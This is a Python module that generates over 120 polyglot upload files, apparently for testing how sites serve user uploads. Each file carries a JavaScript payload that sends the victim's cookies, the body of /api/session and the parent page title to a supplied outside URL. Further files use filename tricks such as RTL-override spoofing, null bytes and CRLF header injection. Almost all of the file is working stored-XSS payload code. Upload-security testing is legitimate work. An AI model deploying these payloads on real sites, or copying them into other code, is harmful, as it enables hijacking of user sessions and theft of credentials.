"""Files that want to be pages of the site that keeps them: more than 120, each with a script that tells a canary."""

import gzip
import io
import zipfile
from collections.abc import Callable

from PIL import Image


def script(url: str, name: str) -> str:
    """Told in this order: that it runs, the cookies, who is signed in, the page around."""
    return (
        f"(()=>{{const n=encodeURIComponent({name!r}),hit=(k,v)=>{{new Image().src='{url}/hit/'+k+'?'+n+'&'+"
        "encodeURIComponent(String(v).slice(0,80))};globalThis.ran=n;hit('run',globalThis.location);"
        "try{hit('cookie',document.cookie)}catch(e){}"
        "try{fetch('/api/session').then(r=>r.text()).then(t=>hit('session',t))}catch(e){}"
        "try{hit('parent',parent.document.title)}catch(e){}})()"
    )


def files(url: str) -> dict[str, tuple[bytes, str]]:
    """Name → bytes, and the type that a careless server would give them. 120 and some."""
    found: dict[str, tuple[bytes, str]] = {}
    made = 0

    def put(name: str, write: Callable[[str], bytes | str], media_type: str) -> None:
        nonlocal made
        made += 1
        content = write(script(url, f"{made} {name}"))
        found[f"{made:03} {name}"] = (content.encode() if isinstance(content, str) else content, media_type)

    for shape in MARKUP:
        for name, media_type in PAGES:
            put(name, lambda js, shape=shape: shape.format(js=js, canary=url), media_type)
    for name, write, media_type in OTHERS:
        put(name, write, media_type)
    return found


MARKUP = [
    "<!doctype html><title>x</title><script>{js}</script>",
    '<img src=x onerror="{js}"><svg onload="{js}">',
    '\n\n   <!-- {canary} --><body onload="{js}"><iframe src="javascript:{js}"></iframe>',
    "<meta http-equiv=refresh content='0;url=javascript:{js}'><base href='{canary}/hit/base/'><script>{js}</script>",
    "<link rel=stylesheet href='{canary}/hit/style'><object data='{canary}/hit/object'></object><script>{js}</script>",
]
PAGES = [
    ("page.html", "text/html"),
    ("page.htm", "text/html; charset=utf-7"),
    ("page.xhtml", "application/xhtml+xml"),
    ("page.txt", "text/plain"),
    ("page.pdf", "application/pdf"),
    ("page.jpg.html", "text/html"),
    ("page.html.jpg", "image/jpeg"),
    ("page.hta", "application/hta"),
    ("page.md", "text/markdown"),
    ("page.csv", "text/csv"),
    ("page", "application/octet-stream"),
    ("page.mp4", "video/mp4"),
    ("page.shtml", "text/html"),
    ("page.json", "application/json"),
    ("page.xml", "text/xml"),
    ("page.unknown", "application/x-unknown"),
]
XHTML = "http://www.w3.org/1999/xhtml"


def svg(js: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
        f'<foreignObject><body xmlns="{XHTML}"><script>{js}</script></body></foreignObject></svg>'
    )


def styled(js: str) -> str:
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" id="s">'
        f'<xsl:template match="/"><html><script>{js}</script></html></xsl:template></xsl:stylesheet>'
    )
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><root>{sheet}</root>'


def gif(js: str) -> bytes:
    return b"GIF89a/*" + bytes(20) + f"*/=1;{js}//<script>{js}</script>".encode()


def pdf(js: str) -> bytes:
    text = js.replace("(", "\\(").replace(")", "\\)")
    action = f"<< /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('x'\\);{text}) >>"
    body = f"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction {action} >> endobj\n"
    body += "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n"
    return f"%PDF-1.7\n{body}%%EOF\n".encode()


def atom(js: str) -> str:
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><h:script xmlns:h="{XHTML}">{js}</h:script></feed>'


def mathml(js: str) -> str:
    return f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{js}">x</math>'


def page(js: str) -> str:
    return f"<!doctype html><script>{js}</script>"


def mhtml(js: str) -> str:
    return (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
        f"Content-Location: http://x/\r\n\r\n{page(js)}\r\n--b--\r\n"
    )


def zipped(name: str) -> Callable[[str], bytes]:
    """An EPUB or an H5P by its beginning, with the page in plain sight."""
    return lambda js: b"PK\x03\x04" + bytes(26) + b"mimetypeapplication/" + name.encode() + page(js).encode()


def with_a_page(js: str) -> bytes:
    return pdf(js).replace(
        b"/Kids [] /Count 0 >> endobj\n",
        b"/Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n",
    )


def picture(form: str) -> Callable[[str], bytes]:
    """One that can be drawn, with the page in a comment and behind its end."""

    def write(js: str) -> bytes:
        held = io.BytesIO()
        Image.new("RGB", (640, 480), "teal").save(held, form, comment=page(js).encode()[:60_000])
        return held.getvalue() + page(js).encode()

    return write


def archive(media_type: str | None) -> Callable[[str], bytes]:
    """A whole ZIP whose members have names that want to be read as markup; an EPUB with a cover that is a page."""

    def write(js: str) -> bytes:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as packed:
            if media_type:
                packed.writestr("mimetype", media_type)
                packed.writestr(
                    "META-INF/container.xml",
                    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
                    '<rootfile full-path="a.opf"/></rootfiles></container>',
                )
                packed.writestr(
                    "a.opf",
                    '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.svg" '
                    'properties="cover-image" media-type="image/svg+xml"/></manifest></package>',
                )
                packed.writestr("c.svg", svg(js))
            packed.writestr(f"<img src=x onerror={js.encode().hex()[:40]}>.html", page(js))
            packed.writestr("<script>document.title='listed'</script>.txt", page(js))
            packed.writestr("صورة\u202egpj.html", page(js))
        return held.getvalue()

    return write


OTHERS: list[tuple[str, Callable[[str], bytes | str], str]] = [
    ("a.svg", svg, "image/svg+xml"),
    ("b.svg", lambda js: f'<?xml version="1.0"?>{svg(js)}', "image/svg+xml"),
    ("c.svgz", lambda js: gzip.compress(svg(js).encode()), "image/svg+xml"),
    ("d.svg.png", svg, "image/png"),
    ("e.xml", lambda js: f'<html xmlns="{XHTML}"><script>{js}</script></html>', "application/xml"),
    ("f.xml", styled, "text/xml"),
    ("g.xsl", styled, "text/xsl"),
    ("h.rdf", lambda js: f'<html xmlns="{XHTML}"><body onload="{js}"/></html>', "application/rdf+xml"),
    ("i.atom", atom, "application/atom+xml"),
    ("j.gif", gif, "image/gif"),
    ("k.gif.html", gif, "text/html"),
    ("l.js", lambda js: js, "text/javascript"),
    ("m.mjs", lambda js: js, "application/javascript"),
    ("n.gif.js", gif, "application/x-javascript"),
    ("o.pdf", pdf, "application/pdf"),
    ("p.pdf.html", lambda js: pdf(js) + page(js).encode(), "text/html"),
    ("q.html.pdf", lambda js: page(js).encode() + pdf(js), "application/pdf"),
    ("r.epub", zipped("epub+zip"), "application/epub+zip"),
    ("s.h5p", zipped("h5p"), "application/zip"),
    ("t.mht", mhtml, "multipart/related"),
    ("u.mhtml", mhtml, "message/rfc822"),
    ("v.eml", mhtml, "message/rfc822"),
    ("w.swf", lambda js: b"FWS\x06" + bytes(8) + page(js).encode(), "application/x-shockwave-flash"),
    ("x.utf7.html", lambda js: "+ADw-script+AD4-" + js + "+ADw-/script+AD4-", "text/html; charset=utf-7"),
    ("y.utf7.txt", lambda js: "+/v8-+ADw-script+AD4-" + js + "+ADw-/script+AD4-", "text/plain"),
    ("z.utf16.html", lambda js: page(js).encode("utf-16"), "text/html; charset=utf-16"),
    ("aa.utf16.txt", lambda js: page(js).encode("utf-16-le"), "text/plain"),
    ("ab.utf16be.txt", lambda js: b"\xfe\xff" + page(js).encode("utf-16-be"), "text/plain"),
    ("ac.2022.html", lambda js: b"\x1b$B" + page(js).encode() + b"\x1b(B", "text/html; charset=iso-2022-jp"),
    ("ad.bom.txt", lambda js: b"\xef\xbb\xbf" + page(js).encode(), "text/plain"),
    ("ae.png", lambda js: b"\x89PNG\r\n\x1a\n" + page(js).encode(), "image/png"),
    ("af.jpg", lambda js: b"\xff\xd8\xff\xe0" + page(js).encode(), "image/jpeg"),
    ("ag.webp", lambda js: b"RIFF\0\0\0\0WEBP" + page(js).encode(), "image/webp"),
    ("ah.bmp", lambda js: b"BM" + page(js).encode(), "image/bmp"),
    ("ai.mp3", lambda js: b"ID3" + page(js).encode(), "audio/mpeg"),
    ("aj.ogg", lambda js: b"OggS" + page(js).encode(), "audio/ogg"),
    ("ak.webm", lambda js: b"\x1aE\xdf\xa3" + page(js).encode(), "video/webm"),
    ("al.css", lambda js: f"@import url('javascript:{js}');", "text/css"),
    ("am.vtt", lambda js: f"WEBVTT\n\n00:00.000 --> 00:10.000\n{page(js)}", "text/vtt"),
    ("an.ics", page, "text/calendar"),
    ("ao.url", lambda js: f"[InternetShortcut]\nURL=javascript:{js}", "application/internet-shortcut"),
    ("ap.wasm", lambda js: b"\0asm\x01\0\0\0" + page(js).encode(), "application/wasm"),
    ("aq.appcache", lambda js: f"CACHE MANIFEST\n{page(js)}", "text/cache-manifest"),
    ("ar.wsdl", lambda js: f'<html xmlns="{XHTML}"><script>{js}</script></html>', "application/wsdl+xml"),
    ("as.mathml", mathml, "application/mathml+xml"),
    ("at.jsonp", lambda js: f"callback({js})", "application/json"),
    ("au.whole.pdf", with_a_page, "application/pdf"),
    ("av.whole.png", picture("PNG"), "image/png"),
    ("aw.whole.jpg", picture("JPEG"), "image/jpeg"),
    ("ax.whole.zip", archive(None), "application/zip"),
    ("ay.whole.epub", archive("application/epub+zip"), "application/epub+zip"),
    ("صورة\u202egpj.html", page, "text/html"),
    ("\u202efdp.exe.html", page, "text/html"),
    ("a%00.html", page, "text/html"),
    ("a;filename=b.html", page, "text/html"),
    ("a\"\r\nContent-Type: text%2Fhtml.txt", page, "text/plain"),
    ("<script>alert(1)<_script>.html", page, "text/html"),
]  # fmt: skip
